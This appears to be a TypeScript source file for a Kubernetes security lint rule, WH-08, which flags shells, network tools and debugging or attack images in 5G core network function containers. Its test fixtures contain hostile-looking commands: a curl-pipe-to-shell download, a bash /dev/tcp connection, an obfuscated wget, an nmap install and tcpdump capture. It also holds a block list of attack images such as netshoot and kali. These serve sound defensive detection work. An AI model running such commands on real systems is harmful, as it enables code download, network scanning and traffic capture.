/**
 * No tools to live off in network functions: no general-purpose or debugging images, no shell lines that fetch, scan, capture, tunnel or install.
 *
 * Read are command, arguments, probes, hooks and the ConfigMap scripts that a container starts. A user-plane function's init container may set up its
 * TUN device and NAT (ip, iptables); an init container that only waits for another service is rated medium, one line a workload.
 */

import { parseImage } from "../../analysis/images/reference";
import { type Invocation, isShell, programsIn, programsOf } from "../../analysis/shell/programs";
import { isNat, isTool, isWait, loops, opensSocket } from "../../analysis/shell/tools";
import { type Judged, judgedAsNetworkFunction, judgedInCore } from "../../engine/judged";
import { defineRule, type Evidence, fail, type RuleContext, undetermined, type Verdict } from "../../engine/rule";
import { workloads } from "../../engine/targets";
import { perPart } from "../../model/answers";
import { configMapNames } from "../../model/kubernetes/mounts";
import type { CoreModel } from "../../model/core";
import type { Container, Workload } from "../../model/kubernetes/workloads";
import { isSidecar } from "../../model/network-functions/containers";
import { type Node, valueOr } from "../../model/value";
import { networkFunction, object, unknownValue } from "../../testing/build";
import { areUserPlane } from "../../topology/topology";

export default defineRule({
  id: "WH-08",
  name: "wh-08-no-living-off-the-land-tooling",
  title: "No living-off-the-land tooling: minimal images, no shells or network tools in commands",
  family: "workload",
  severity: "high",
  scope: "both",
  since: "0.1.0",
  target: workloads,
  rationale:
    "Intruders in carriers' cores bring little: they use what is there. A shell with curl, tcpdump or a package manager in a function is their download, their capture and their next hop, and nobody can tell it from work.",
  remediation:
    "Build the function's image without shell and tools (distroless), start the function directly, probe it by gRPC, HTTP or TCP, and let it wait for others by itself or by its readiness. Keep TUN and NAT set-up in a digest-pinned init container of the user plane.",
  standards: [
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.3.2.3", title: "No unused software" },
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.3.2.4", title: "No unused functions" },
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.3.4.5", title: "No compiler" },
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.3.2.1", title: "No unnecessary or insecure services / protocols" },
    { framework: "NIST SP 800-53r5", ref: "CM-7(2)", title: "Least Functionality | Prevent Program Execution" },
    { framework: "NIST SP 800-53r5", ref: "CM-7(5)", title: "Least Functionality | Authorized Software — Allow-by-exception" },
    { framework: "ENISA 5G SCM v1.3", ref: "SO17-002", title: "Unused software should be deleted or deinstalled. If that is not possible, such functions should be permanently deactivated in the configuration and they should" },
    { framework: "NIST SP 800-190", ref: "4.1.2", title: "Image configuration defects" },
    { framework: "CISA/NSA/FBI+ Enhanced Visibility and Hardening Guidance (Dec 2024)", ref: "HARD-SVC", title: "Hardening: disable plaintext/unused services (Telnet, FTP, TFTP, SSHv1, HTTP, SNMPv1/2c)" },
  ],
  breaks: [
    { id: "FGT1059", name: "Command and Scripting Interpreter" },
    { id: "T1059.004", name: "Unix Shell" },
    { id: "T1105", name: "Ingress Tool Transfer" },
    { id: "T1046", name: "Network Service Discovery" },
    { id: "FGT1588.002", name: "Tool" },
  ],
  *check(workload, context) {
    const judged = judgedAsNetworkFunction(workload, context);
    if (judged === "no" || judged === "later") {
      yield* attackImages(workload, context);
      return;
    }
    const { networkFunctions } = context.model.classification(workload);
    const userPlane = areUserPlane(networkFunctions);
    const findings = workload.containers.filter((container) => container.role !== "ephemeral").map((container) => toolsOf(container, workload, userPlane, context.model));
    const shared = { networkFunctions };
    yield* grave(workload, findings.filter((item) => !item.waits), judged, shared);
    yield* waiting(workload, findings.filter((item) => item.waits), judged, shared);
  },
  examples: () => ({
    pass: [
      { name: "the function alone", resources: [networkFunction("amf", { container: { command: ["/amf"], args: ["-c", "/config/amfcfg.yaml"] } })] },
      { name: "a shell that only starts the function", resources: [networkFunction("smf", { container: { command: ["/bin/sh", "-c", "exec ./smf -c /config/curl-free.yaml # no wget here"] } })] },
      { name: "TUN and NAT in the UPF's init container", resources: [networkFunction("upf", { pod: { initContainers: [{ name: "tun", image: `r.example/tools@${DIGEST}`, command: ["sh", "-c", "ip tuntap add name ogstun mode tun; iptables -t nat -A POSTROUTING -j MASQUERADE"] }] } })] },
      { name: "a data store's own shell", resources: [networkFunction("amf"), networkFunction("mongodb", { container: { image: "mongo:7", command: ["bash", "-c", "curl -s x"] } })] },
    ],
    fail: [
      { name: "a download in the start line", resources: [networkFunction("amf", { container: { command: ["sh", "-c", "curl -s http://x/y | sh; ./amf"] } })] },
      { name: "quotes, a path and env before the tool", resources: [networkFunction("smf", { container: { args: ["bash", "-c", "env A=1 /usr/bin/w\"g\"et -qO- x"] } })] },
      { name: "a connection by the shell itself", resources: [networkFunction("udm", { container: { command: ["bash", "-c", "exec 5<>/dev/tcp/10.0.0.9/443; ./udm"] } })] },
      { name: "a packet capture as a sidecar", resources: [networkFunction("upf", { pod: { containers: [{ name: "upf", image: "5gc/upf" }, { name: "capture", image: "vendor/capture", command: ["tcpdump", "-i", "any"] }] } })] },
      { name: "a probe that calls netcat", resources: [networkFunction("nrf", { container: { livenessProbe: { exec: { command: ["sh", "-c", "nc -z localhost 7777"] } } } })] },
      { name: "iptables in the UPF's main container", resources: [networkFunction("upf", { container: { command: ["sh", "-c", "iptables -t nat -A POSTROUTING -j MASQUERADE && exec upf"] } })] },
      { name: "a debugging image", resources: [networkFunction("amf", { pod: { containers: [{ name: "amf", image: "5gc/amf" }, { name: "tools", image: "nicolaka/netshoot:v0.13" }] } })] },
      { name: "a general-purpose image", resources: [networkFunction("ausf", { container: { image: "ubuntu:24.04" } })] },
      { name: "a script of a ConfigMap", resources: [networkFunction("smf", { container: { command: ["/scripts/run.sh"] }, pod: { volumes: [{ name: "s", configMap: { name: "scripts" } }] } }), object("v1", "ConfigMap", "scripts", { data: { "run.sh": "#!/bin/sh\napt-get install -y nmap\n./smf" } })] },
      { name: "an init container that waits is rated medium", resources: [networkFunction("amf", { pod: { initContainers: [{ name: "wait", image: "busybox:1.36", command: ["sh", "-c", "until nc -z nrf 7777; do sleep 2; done"] }] } })] },
      { name: "a debugging image beside the functions", resources: [networkFunction("amf"), networkFunction("shell", { kind: "Pod", container: { image: "nicolaka/netshoot" } })] },
    ],
    undetermined: [{ name: "a script that the configuration brings", resources: [networkFunction("amf", { container: { command: ["sh", "-c", unknownValue()] } })] }],
  }),
}); // prettier-ignore

/** Images that hold a tool box and no function: those of intruders, and those of everybody. */
const ATTACK = /(^|\/)(netshoot|kali[^/]*|socat|network-multitool)$|(^|\/)(nicolaka|kalilinux)\//;
const TOOLBOX = /(^|\/)(busybox|ubuntu|debian|debug[^/]*|[^/]*-debug|toolbox)$/;
const BUSYBOX = /(^|\/)busybox$/;
const DEBUG_TAG = /^(dev|debug)$|[-_.]debug$/;

interface Tools {
  readonly container: Container;
  readonly wrong: readonly Evidence[];
  readonly names: readonly string[];
  /** Scripts that are not known yet. */
  readonly open: readonly Evidence[];
  /** An init container that waits for another service and does nothing else. */
  readonly waits: boolean;
}

function toolsOf(container: Container, workload: Workload, userPlane: boolean, model: CoreModel): Tools {
  const setUp = container.role === "init" && !isSidecar(container);
  const calls = callsOf(container, workload, model);
  const wrong: Evidence[] = [];
  const names = new Set<string>();
  let waits = setUp;
  for (const { node, invocations, text } of calls) {
    const found = invocations.filter((item) => isTool(item)).filter((item) => !(setUp && userPlane && isNat(item)));
    if (opensSocket(text)) names.add("/dev/tcp");
    found.forEach((item) => names.add(item.program));
    if (found.length === 0 && !opensSocket(text)) continue;
    waits &&= isWait(found, text);
    wrong.push({
      path: node.path,
      actual: [...new Set(found.map((item) => item.program))].join(", ") || "/dev/tcp",
      expected: "the function's own program",
    });
  }
  const image = imageFlaw(container, setUp && userPlane);
  if (image !== undefined) {
    wrong.push({
      path: container.node.get("image").path,
      actual: valueOr(container.image, ""),
      expected: "an image with the function alone",
    });
    names.add(image);
    waits &&= BUSYBOX.test(parseImage(valueOr(container.image, ""))?.path ?? "") && calls.some(({ text }) => loops(text));
  }
  return { container, wrong, names: [...names], open: calls.flatMap((call) => call.open), waits: waits && wrong.length > 0 };
}

interface Call {
  readonly node: Node;
  readonly invocations: readonly Invocation[];
  readonly text: string;
  readonly open: readonly Evidence[];
}

/** Everything that a container is told to run. */
function callsOf(container: Container, workload: Workload, model: CoreModel): readonly Call[] {
  const { argv, calls } = ownCalls(container);
  const scripts = scriptsOf(argv, workload, model);
  return scripts.length === 0
    ? calls
    : [...calls, ...scripts.map(({ node, text }) => ({ node, invocations: programsIn(text), text, open: [] }))];
}

/** What stands in the container itself. */
const ownCalls = perPart(({ node }: Container): { readonly argv: readonly string[]; readonly calls: readonly Call[] } => {
  const own = [node.get("command"), node.get("args")];
  const hooks = [
    ...["livenessProbe", "readinessProbe", "startupProbe"].map((probe) => node.get(probe, "exec", "command")),
    ...["postStart", "preStop"].map((hook) => node.get("lifecycle", hook, "exec", "command")),
  ];
  const words = (lists: readonly Node[]): string[] => lists.flatMap((list) => list.items().map((item) => valueOr(item.string(), "")));
  const argv = words(own);
  const calls = [
    { node: own.find((list) => !list.isAbsent) ?? node, invocations: programsOf(argv), text: argv.join("\n"), open: unknownScripts(own) },
    ...hooks
      .filter((list) => list.isKnown)
      .map((list) => ({ node: list, invocations: programsOf(words([list])), text: words([list]).join("\n"), open: [] })),
  ];
  return { argv, calls };
});

/** What a shell is told to run, where only the deployment knows it. */
function unknownScripts(lists: readonly Node[]): Evidence[] {
  const items = lists.flatMap((list) => list.items());
  const shell = items.some((item) => isShell(valueOr(item.string(), "").split("/").at(-1) ?? ""));
  return shell
    ? items
        .filter((item) => item.isUnknown)
        .map((item) => ({ path: item.path, actual: item.describe(), expected: "the function's own program" }))
    : [];
}

/** Scripts from the pod's ConfigMaps that a container starts, by the name of their file. */
function scriptsOf(
  argv: readonly string[],
  workload: Workload,
  model: CoreModel,
): readonly { readonly node: Node; readonly text: string }[] {
  const line = argv.join(" ");
  if (!/\.(sh|bash|py|pl)/.test(line)) return [];
  return configMapNames(workload).flatMap((name) =>
    model.objectsNamed("", "ConfigMap", workload.namespace, name).flatMap((object) =>
      object.resource.props
        .get("data")
        .fields()
        .flatMap(([key, node]) => {
          const text = node.string();
          const started = /\.(sh|bash|py|pl)$/.test(key) && line.includes(key);
          return started && text.state === "known" ? [{ node, text: text.value }] : [];
        }),
    ),
  );
}

function imageFlaw(container: Container, setUp: boolean): string | undefined {
  const image = container.image.state === "known" ? parseImage(container.image.value) : undefined;
  if (image === undefined || (setUp && image.digest !== undefined)) return undefined;
  if (ATTACK.test(image.path) || TOOLBOX.test(image.path)) return `the image ${image.path.replace(/^library\//, "")}`;
  return image.tag !== undefined && DEBUG_TAG.test(image.tag) ? `an image tagged ${image.tag}` : undefined;
}

type Shared = Pick<Verdict, "networkFunctions">;

function* grave(workload: Workload, all: readonly Tools[], judged: Judged, shared: Shared): Iterable<Verdict> {
  const wrong = all.filter((item) => item.wrong.length > 0);
  const [only, ...more] = wrong;
  if (only !== undefined) {
    yield (judged === "yes" ? fail : undetermined)({
      message: `${workload.kind} ${workload.name} brings ${[...new Set(wrong.flatMap((item) => item.names))].join(", ")} (container${more.length > 0 ? "s" : ""} ${wrong.map((item) => item.container.name).join(", ")}): tools for an intruder who lives off what is there (Command and Scripting Interpreter).`,
      evidence: wrong.flatMap((item) => item.wrong),
      container: more.length === 0 ? only.container.name : undefined,
      ...shared,
    });
  }
  const open = all.flatMap((item) => (item.wrong.length > 0 ? [] : item.open));
  if (open.length > 0) {
    yield undetermined({
      message: `What the shell of ${workload.kind} ${workload.name} is told to run is not known before deployment.`,
      evidence: open,
      cause: "unknown",
      ...shared,
    });
  }
}

function* waiting(workload: Workload, waits: readonly Tools[], judged: Judged, shared: Shared): Iterable<Verdict> {
  if (waits.length === 0) return;
  yield (judged === "yes" ? fail : undetermined)({
    message: `${workload.kind} ${workload.name} waits for other services with ${[...new Set(waits.flatMap((item) => item.names))].join(", ")} in an init container: a tool box that every pod of the function brings along (Ingress Tool Transfer).`,
    evidence: waits.flatMap((item) => item.wrong),
    severity: "medium",
    cause: "waiting",
    ...shared,
  });
}

/** Tool boxes that run beside the functions, whatever they call themselves. */
function* attackImages(workload: Workload, context: RuleContext): Iterable<Verdict> {
  if (judgedInCore(workload, context) !== "yes" || !context.model.coreNamespaces.has(workload.namespace)) return;
  for (const container of workload.containers) {
    const path = container.image.state === "known" ? (parseImage(container.image.value)?.path ?? "") : "";
    if (!ATTACK.test(path)) continue;
    yield fail({
      message: `${workload.kind} ${workload.name} runs the tool box ${path} in a namespace of the core: scanner, capture and tunnel for whoever attaches to it (Network Service Discovery).`,
      evidence: [
        { path: container.node.get("image").path, actual: valueOr(container.image, ""), expected: "no tool box beside the functions" },
      ],
      container: container.name,
      cause: "tool box",
    });
    return;
  }
}

const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;
